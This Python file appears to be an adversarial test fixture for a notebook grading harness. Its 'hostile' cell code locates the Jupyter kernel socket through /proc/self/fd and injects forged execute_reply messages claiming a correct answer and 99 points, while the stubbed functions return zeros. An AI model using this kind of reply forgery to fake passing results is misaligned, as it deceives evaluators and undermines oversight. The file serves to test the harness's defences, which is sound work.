"""Hostile: answers in the kernel's stead: whole, well-formed replies on its socket, before the real one, with the shapes that are wanted."""
from _common import *
KIND, DESERVED = "hostile", 2
CELLS = {"pe": '''\
import base64, json, os, socket
_line = None
for _fd in map(int, os.listdir("/proc/self/fd")):
    try:
        _s = socket.socket(fileno=os.dup(_fd))
        if _s.getsockname() == "/run/kernel-1" and not _s.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN):
            _line = _s
    except OSError:
        pass
def _reply(shape, data):
    parent = get_ipython().kernel.get_parent("shell")["header"]
    for claim in ({"parts": [{"shape": shape, "data": data}], "right": True, "points": 99}, True, None, {"parts": "all"}):
        text = repr(base64.b64encode(json.dumps(claim).encode()).decode())
        content = {"status": "ok", "points": 99, "user_expressions": {"answer": {"status": "ok", "data": {"text/plain": text}}}}
        for wanted in ({**parent, "msg_id": "0" * 32}, parent):
            frames = [b"<IDS|MSG>", b"", *(json.dumps(x, default=str).encode() for x in (parent | {"msg_type": "execute_reply"}, wanted, {}, content))]
            _line.sendall(b"".join(bytes([2 | (n < 5)]) + len(f).to_bytes(8, "big") + f for n, f in enumerate(frames)))
def _answer(*shape):
    _reply(list(shape), base64.b64encode(np.full(shape, np.nan).tobytes()).decode())
    return np.zeros(shape)
def sinusoidal_pe(n, d):
    return _answer(n, d)
''', "shift": "def shift_matrix(delta, d):\n    return _answer(d, d)\n"}
